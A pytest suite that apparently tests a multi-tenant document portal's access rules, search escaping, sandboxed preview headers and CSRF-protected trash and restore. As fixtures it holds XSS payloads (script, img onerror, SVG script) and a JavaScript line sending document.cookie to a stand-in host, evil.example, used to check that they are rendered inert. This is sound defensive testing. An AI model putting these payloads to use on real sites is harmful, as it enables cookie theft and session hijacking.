"""The portal's Documents page: the list filters and keyset pages, search with highlights
escaped, a document's detail, the download, the preview's headers and its refusal to render
active content (HTML, SVG, script) as such, trash and restore with CSRF, who may do what,
and another tenant's document answering 404 everywhere."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime, timedelta

import pytest

import clock
from tests.fixture_files import png_bytes, render_gray, text_pdf
from tests.helpers import csrf_token, post, sign_in

HTMX = {"HX-Request": "true"}
_ROW_IDS = re.compile(r'<tr id="doc-(doc_[a-z0-9]+)"')
_NEXT = re.compile(r'href="([^"]+)" rel="next">Next page')

HTML_PAGE = b"<!doctype html><html><body><h1>Hi</h1><script>alert(document.cookie)</script>"
SVG_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)


def _rows(response) -> list[str]:
    return _ROW_IDS.findall(response.get_data(as_text=True))


def _document(app, document_id):
    from extensions import db
    from models import Document

    with app.app_context():
        row = db.session.get(Document, document_id)
        db.session.expunge(row)
        return row


def _event_types(app, tenant_id) -> list[str]:
    from sqlalchemy import select

    from extensions import db
    from models.event import Event

    with app.app_context():
        return list(
            db.session.scalars(
                select(Event.type).where(Event.tenant_id == tenant_id).order_by(Event.created_at)
            )
        )


def _add_version(app, tenant_id, document_id, content: bytes, filename: str) -> None:
    from services.core import transaction
    from services.core.actors import Actor
    from services.documents import documents, uploads

    with app.app_context():
        document = documents.get_document(tenant_id, document_id)
        with uploads.receive_file(tenant_id, io.BytesIO(content), filename) as received:
            documents.add_version(document, received, Actor.system("tests"))
        transaction.commit()


@pytest.fixture
def signed_in(client, tenant):
    def as_(user):
        response = sign_in(client, tenant.id, user.email)
        assert response.status_code == 302, response.get_data(as_text=True)
        return client

    return as_


# --- who may see and do what -------------------------------------------------------------------


@pytest.mark.parametrize("role", ["admin", "auditor", "member"])
def test_every_tenant_role_reads_the_page_and_finds_it_in_the_nav(
    role, client, tenant, create_user, store_document
):
    user = create_user(tenant, role, email=f"{role}@acme.example")
    store_document(tenant, b"minutes", "minutes.txt", title="Board minutes")
    assert sign_in(client, tenant.id, user.email).status_code == 302
    page = client.get("/documents")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert 'href="/documents" aria-current="page">Documents</a>' in html
    assert "Board minutes" in html
    can_edit = role != "auditor"
    assert ('action="/documents/doc_' in html and "/trash" in html) is can_edit


def test_auditor_is_refused_trash_and_restore(app, signed_in, auditor, tenant, store_document):
    document_id = store_document(tenant, b"x", "x.txt")
    client = signed_in(auditor)
    token = csrf_token(client, "/documents")
    for action in ("trash", "restore"):
        response = client.post(f"/documents/{document_id}/{action}", data={"csrf_token": token})
        assert response.status_code == 403, action
    assert _document(app, document_id).status == "active"


def test_support_staff_and_strangers_do_not_read_documents(
    client, tenant, support_staff, store_document
):
    document_id = store_document(tenant, b"secret plans", "plans.txt")
    anonymous = client.get("/documents")
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    assert client.get(f"/documents/{document_id}/preview").status_code == 302
    assert sign_in(client, None, "help@operator.example").status_code == 302
    for path in ("/documents", f"/documents/{document_id}", f"/documents/{document_id}/download"):
        assert client.get(path).status_code == 403, path


def test_another_tenants_document_is_404_everywhere(admin_client, other_tenant, store_document):
    theirs = store_document(other_tenant, b"globex only", "g.txt", title="Globex plan")
    assert admin_client.get(f"/documents/{theirs}").status_code == 404
    assert admin_client.get(f"/documents/{theirs}/download").status_code == 404
    assert admin_client.get(f"/documents/{theirs}/preview").status_code == 404
    assert post(admin_client, f"/documents/{theirs}/trash").status_code == 404
    assert post(admin_client, f"/documents/{theirs}/restore").status_code == 404
    assert post(admin_client, f"/documents/{theirs}/trash", headers=HTMX).status_code == 404
    assert "Globex plan" not in admin_client.get("/documents").get_data(as_text=True)
    assert "Globex plan" not in admin_client.get("/documents?q=globex").get_data(as_text=True)


# --- browsing ---------------------------------------------------------------------------------


def test_filters_narrow_the_list_like_the_api(admin_client, tenant, store_document):
    clock.freeze(datetime(2026, 3, 1, 12, tzinfo=UTC))
    old = store_document(tenant, b"old", "old.txt", title="Old memo", tags=["hr"])
    clock.freeze(datetime(2026, 6, 1, 12, tzinfo=UTC))
    pdf = store_document(
        tenant, text_pdf([["Quarterly"]]), "q.pdf", title="Q2 report", tags=["fin"]
    )
    png = store_document(tenant, png_bytes(*render_gray("HELLO")), "hi.png", title="Logo")
    both = store_document(tenant, b"both", "b.txt", title="Fin and HR", tags=["fin", "hr"])

    def ids(query: str) -> set[str]:
        response = admin_client.get(f"/documents?{query}")
        assert response.status_code == 200, response.get_data(as_text=True)
        return set(_rows(response))

    assert ids("") == {old, pdf, png, both}
    assert ids("tag=fin") == {pdf, both}
    assert ids("tag=fin,+hr") == {both}
    assert ids("type=image/*") == {png}
    assert ids("type=application/pdf") == {pdf}
    assert ids("title=REPORT") == {pdf}
    assert ids("title=%25") == set()  # % is literal, as in the API
    assert ids("created_to=2026-03-01") == {old}  # the "to" day is included
    assert ids("created_from=2026-03-02") == {pdf, png, both}
    assert ids("updated_from=2026-06-01&updated_to=2026-06-01") == {pdf, png, both}
    titles = _rows(admin_client.get("/documents?sort=title"))
    assert titles == [both, png, old, pdf]


def test_bad_filters_are_reported_beside_their_fields(admin_client, tenant, store_document):
    store_document(tenant, b"a", "a.txt")
    tags = ",".join(f"t{n}" for n in range(11))
    response = admin_client.get(
        f"/documents?created_from=yesterday&sort=size&status=gone&tag={tags}&type={'x' * 300}"
    )
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert 'id="created_from-errors"' in html and 'id="sort-errors"' in html
    assert 'id="status-errors"' in html and 'id="tag-errors"' in html
    assert 'id="type-errors"' in html
    assert len(_rows(response)) == 1  # the rest of the filters still apply


def test_trash_is_listed_only_when_asked_for(app, admin_client, tenant, store_document):
    kept = store_document(tenant, b"k", "k.txt", title="Kept")
    binned = store_document(tenant, b"b", "b.txt", title="Binned")
    assert post(admin_client, f"/documents/{binned}/trash").status_code == 302
    assert set(_rows(admin_client.get("/documents"))) == {kept}
    trash = admin_client.get("/documents?status=deleted")
    assert _rows(trash) == [binned]
    assert f'action="/documents/{binned}/restore"' in trash.get_data(as_text=True)


def test_keyset_pages_walk_every_document_once(admin_client, tenant, store_document):
    start = datetime(2026, 1, 1, tzinfo=UTC)
    made = []
    for n in range(30):
        clock.freeze(start + timedelta(minutes=n))
        made.append(store_document(tenant, f"doc {n}".encode(), f"d{n}.txt", schedule=False))
    first = admin_client.get("/documents?limit=100000")  # no page size from the URL
    page_one = _rows(first)
    assert page_one == list(reversed(made))[:25]
    next_url = _NEXT.search(first.get_data(as_text=True)).group(1).replace("&amp;", "&")
    assert "cursor=" in next_url and "offset" not in next_url
    clock.freeze(start + timedelta(minutes=31))
    store_document(tenant, b"late", "late.txt", schedule=False)  # added mid-walk: no repeats
    second = admin_client.get(next_url)
    assert _rows(second) == list(reversed(made))[25:]
    assert _NEXT.search(second.get_data(as_text=True)) is None
    assert "First page" in second.get_data(as_text=True)


def test_a_tampered_or_foreign_cursor_starts_again_at_the_first_page(
    admin_client, tenant, store_document
):
    store_document(tenant, b"one", "one.txt")
    for cursor in ("not-a-cursor", "x" * 5000):
        response = admin_client.get(f"/documents?cursor={cursor}")
        assert response.status_code == 200
        assert "showing the first page" in response.get_data(as_text=True)
        assert len(_rows(response)) == 1


def test_htmx_gets_the_results_alone_and_history_restore_the_page(
    admin_client, tenant, store_document
):
    store_document(tenant, b"x", "x.txt", title="Only one")
    fragment = admin_client.get("/documents?title=only", headers=HTMX).get_data(as_text=True)
    assert fragment.lstrip().startswith('<div id="document-results"') and "<html" not in fragment
    typed = admin_client.get("/documents?q=%2A", headers=HTMX)  # half-typed: no word yet
    assert typed.status_code == 200 and "could not be used" in typed.get_data(as_text=True)
    restore = {**HTMX, "HX-History-Restore-Request": "true"}
    assert "<html" in admin_client.get("/documents", headers=restore).get_data(as_text=True)


# --- search -----------------------------------------------------------------------------------


def test_search_shows_highlights_with_the_documents_markup_escaped(
    admin_client, tenant, store_document, work
):
    store_document(
        tenant,
        # An HTML file whose text (after extraction) is markup: the entities become tags.
        b"<html><body><p>The budget &lt;img src=x onerror=alert(1)&gt; for 2027 "
        b"&lt;/mark&gt;&lt;script&gt;alert(2)&lt;/script&gt;</p></body></html>",
        "budget.html",
        title="<script>alert(3)</script> Budget plan",
    )
    store_document(tenant, b"nothing relevant", "other.txt", title="Other")
    work()  # extraction: the text becomes searchable
    response = admin_client.get("/documents?q=budget")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert len(_rows(response)) == 1
    assert "<mark>Budget</mark>" in html and "<mark>budget</mark>" in html
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert" in html  # PostgreSQL cuts the snippet shorter
    assert html.count("</mark>") == html.count("<mark>")  # the document's </mark> is text


def test_a_query_with_markup_is_echoed_escaped(admin_client, tenant, store_document):
    store_document(tenant, b"x", "x.txt")
    response = admin_client.get('/documents?q="><script>alert(1)</script>')
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "<script>alert(1)" not in html
    assert 'value="&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in html


@pytest.mark.parametrize("query", ["%2A%2A%2A", "word+" * 40, "x" * 5000])
def test_a_query_without_words_or_too_long_is_an_error_beside_the_search_box(admin_client, query):
    response = admin_client.get(f"/documents?q={query}")
    assert response.status_code == 400
    assert 'id="q-errors"' in response.get_data(as_text=True)


def test_snippets_that_carry_any_other_tag_are_shown_escaped():
    from portal.documents.pages import snippet_html

    assert str(snippet_html("a <mark>b</mark> &amp; c")) == "a <mark>b</mark> &amp; c"
    assert str(snippet_html("<mark>b</mark><img src=x>")) == (
        "&lt;mark&gt;b&lt;/mark&gt;&lt;img src=x&gt;"
    )


def test_search_pages_with_a_cursor(admin_client, tenant, store_document, work):
    made = {store_document(tenant, f"invoice {n}".encode(), f"i{n}.txt") for n in range(27)}
    work()
    first = admin_client.get("/documents?q=invoice")
    seen = _rows(first)
    assert len(seen) == 25
    next_url = _NEXT.search(first.get_data(as_text=True)).group(1).replace("&amp;", "&")
    seen += _rows(admin_client.get(next_url))
    assert sorted(seen) == sorted(made)


# --- detail, download, preview -----------------------------------------------------------------


def test_detail_shows_the_record_versions_and_text_status(
    app, admin_client, tenant, store_document, work
):
    document_id = store_document(
        tenant,
        b"version one",
        "notes.txt",
        title="<b>Notes</b>",
        tags=["fin"],
        meta={"dept": "<i>sales</i>"},
    )
    _add_version(app, tenant.id, document_id, b"version two!", "notes-v2.txt")
    work()
    document = _document(app, document_id)
    html = admin_client.get(f"/documents/{document_id}").get_data(as_text=True)
    assert "&lt;b&gt;Notes&lt;/b&gt;" in html and "<b>Notes</b>" not in html
    assert "&lt;i&gt;sales&lt;/i&gt;" in html and ">fin<" in html
    assert document.sha256 in html and "notes-v2.txt" in html
    assert 'id="version-2"' in html and 'id="version-1"' in html
    assert "Text read" in html
    assert f'href="/documents/{document_id}/download?version=1"' in html
    assert f'src="/documents/{document_id}/preview"' in html and "sandbox" in html
    old = admin_client.get(f"/documents/{document_id}/download?version=1")
    assert old.get_data() == b"version one"
    assert admin_client.get(f"/documents/{document_id}/download").get_data() == b"version two!"
    assert admin_client.get(f"/documents/{document_id}/download?version=3").status_code == 404
    huge = admin_client.get(f"/documents/{document_id}/download?version=99999999999")
    assert huge.status_code == 404
    older = admin_client.get(f"/documents/{document_id}?versions_before=99999999999")
    assert older.status_code == 200 and 'id="version-2"' in older.get_data(as_text=True)


def test_detail_shows_why_there_is_no_text(app, admin_client, tenant, store_document):
    from extensions import db
    from models import Document

    document_id = store_document(tenant, b"x", "x.txt", schedule=False)
    with app.app_context():
        row = db.session.get(Document, document_id)
        row.text_status, row.text_error, row.text_truncated = "failed", "limit_exceeded: x", True
        db.session.commit()
    html = admin_client.get(f"/documents/{document_id}").get_data(as_text=True)
    assert "Text failed" in html and "limit_exceeded: x" in html and "Truncated" in html


def test_the_workflow_panel_is_a_hook_that_renders_nothing_yet(
    admin_client, tenant, store_document, monkeypatch
):
    from portal.documents import pages as page

    document_id = store_document(tenant, b"x", "x.txt")
    seen = []
    monkeypatch.setattr(page, "workflow_panel", lambda d: seen.append(d.id))
    assert admin_client.get(f"/documents/{document_id}").status_code == 200
    assert seen == [document_id]


def test_download_is_an_attachment_with_etag_and_ranges(admin_client, tenant, store_document):
    document_id = store_document(tenant, b"0123456789", 'Résumé "final".txt')
    response = admin_client.get(f"/documents/{document_id}/download")
    assert response.status_code == 200 and response.get_data() == b"0123456789"
    disposition = response.headers["Content-Disposition"]
    assert (
        disposition.startswith("attachment;") and "filename*=UTF-8''R%C3%A9sum%C3%A9" in disposition
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert response.headers["Cache-Control"] == "private, no-cache"
    etag = response.headers["ETag"]
    assert (
        admin_client.get(
            f"/documents/{document_id}/download", headers={"If-None-Match": etag}
        ).status_code
        == 304
    )
    part = admin_client.get(f"/documents/{document_id}/download", headers={"Range": "bytes=2-4"})
    assert part.status_code == 206 and part.get_data() == b"234"
    assert part.headers["Content-Range"] == "bytes 2-4/10"
    outside = admin_client.get(
        f"/documents/{document_id}/download", headers={"Range": "bytes=50-60"}
    )
    assert outside.status_code == 416


@pytest.mark.parametrize(
    ("content", "filename", "served_as"),
    [
        (text_pdf([["Hello"]]), "a.pdf", "application/pdf"),
        (png_bytes(*render_gray("HELLO")), "a.png", "image/png"),
        (b"plain words\n", "a.txt", "text/plain; charset=utf-8"),
    ],
)
def test_preview_serves_pdf_images_and_text_inline_under_a_sandbox(
    admin_client, tenant, store_document, content, filename, served_as
):
    document_id = store_document(tenant, content, filename)
    response = admin_client.get(f"/documents/{document_id}/preview")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == served_as
    assert response.get_data() == content
    assert response.headers["Content-Disposition"].startswith("inline")
    policy = response.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'") and "sandbox" in policy
    assert (
        "frame-ancestors 'self'" in policy and response.headers["X-Frame-Options"] == "SAMEORIGIN"
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cross-Origin-Resource-Policy"] == "same-origin"


@pytest.mark.parametrize(
    ("content", "filename"),
    [
        (HTML_PAGE, "page.html"),
        (SVG_SCRIPT, "logo.svg"),
        (
            b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">'
            b"alert(1)</x:script>",
            "feed.xml",
        ),
        (b"<script>alert(1)</script>", "looks-like.txt"),
        (b"document.location = 'https://evil.example/?' + document.cookie;\n", "steal.js"),
    ],
)
def test_preview_never_serves_active_content_as_itself(
    admin_client, tenant, store_document, content, filename
):
    document_id = store_document(tenant, content, filename)
    detail = admin_client.get(f"/documents/{document_id}").get_data(as_text=True)
    assert "<iframe" in detail and " sandbox " in detail  # shown as text in a sandboxed frame
    response = admin_client.get(f"/documents/{document_id}/preview")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert "html" not in response.headers["Content-Type"]
    assert "svg" not in response.headers["Content-Type"]
    assert "xml" not in response.headers["Content-Type"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    download = admin_client.get(f"/documents/{document_id}/download")
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert "sandbox" in download.headers["Content-Security-Policy"]


def test_other_types_have_no_preview_and_download_instead(admin_client, tenant, store_document):
    document_id = store_document(tenant, b"\x00\x01\x02binary\xff" * 10, "blob.bin")
    detail = admin_client.get(f"/documents/{document_id}").get_data(as_text=True)
    assert 'id="no-preview"' in detail and "<iframe" not in detail
    assert admin_client.get(f"/documents/{document_id}/preview").status_code == 404


def test_a_text_preview_stops_at_a_mebibyte(admin_client, tenant, store_document):
    from portal.documents.files import TEXT_PREVIEW_BYTES

    document_id = store_document(tenant, b"a" * (TEXT_PREVIEW_BYTES + 10), "big.txt")
    response = admin_client.get(f"/documents/{document_id}/preview")
    assert len(response.get_data()) == TEXT_PREVIEW_BYTES
    assert "the first 1.0 MB" in admin_client.get(f"/documents/{document_id}").get_data(
        as_text=True
    )


# --- trash and restore ------------------------------------------------------------------------


def test_trash_and_restore_need_the_csrf_token(app, admin_client, tenant, store_document):
    document_id = store_document(tenant, b"x", "x.txt")
    assert admin_client.post(f"/documents/{document_id}/trash").status_code == 400
    assert admin_client.post(f"/documents/{document_id}/trash", headers=HTMX).status_code == 400
    assert _document(app, document_id).status == "active"


def test_trash_and_restore_with_plain_forms(app, admin_client, tenant, store_document):
    document_id = store_document(tenant, b"x", "x.txt", title="Contract")
    trashed = post(admin_client, f"/documents/{document_id}/trash", {"back": "/documents?tag=a"})
    assert trashed.status_code == 302 and trashed.headers["Location"] == "/documents?tag=a"
    assert _document(app, document_id).status == "deleted"
    detail = admin_client.get(f"/documents/{document_id}").get_data(as_text=True)
    assert "In the trash since" in detail
    restored = post(admin_client, f"/documents/{document_id}/restore", {"back": "//evil.example"})
    assert restored.headers["Location"] == f"/documents/{document_id}"
    assert _document(app, document_id).status == "active"
    # The same service calls as the API: the same events in the outbox.
    assert _event_types(app, tenant.id)[-2:] == ["document.deleted", "document.updated"]


def test_trash_and_restore_with_htmx_swap_the_row(app, signed_in, member, tenant, store_document):
    document_id = store_document(tenant, b"x", "x.txt")
    client = signed_in(member)  # members work with documents too
    token = csrf_token(client, "/documents")
    headers = {**HTMX, "X-CSRFToken": token}
    row = client.post(
        f"/documents/{document_id}/trash", headers=headers, data={"back": "/documents"}
    )
    html = row.get_data(as_text=True)
    assert row.status_code == 200 and html.lstrip().startswith(f'<tr id="doc-{document_id}"')
    assert 'data-status="deleted"' in html and f"/documents/{document_id}/restore" in html
    again = client.post(f"/documents/{document_id}/restore", headers=headers)
    assert 'data-status="active"' in again.get_data(as_text=True)
    assert _document(app, document_id).status == "active"


def test_restore_only_takes_documents_out_of_the_trash(app, admin_client, tenant, store_document):
    from models.documents import DocumentStatus
    from services.core import transaction
    from services.core.actors import Actor
    from services.documents import documents

    document_id = store_document(tenant, b"x", "x.txt")
    with app.app_context():
        document = documents.get_document(tenant.id, document_id)
        documents.update_document(
            document, {"status": DocumentStatus.ARCHIVED}, Actor.system("tests")
        )
        transaction.commit()
    post(admin_client, f"/documents/{document_id}/restore")
    assert _document(app, document_id).status == "archived"
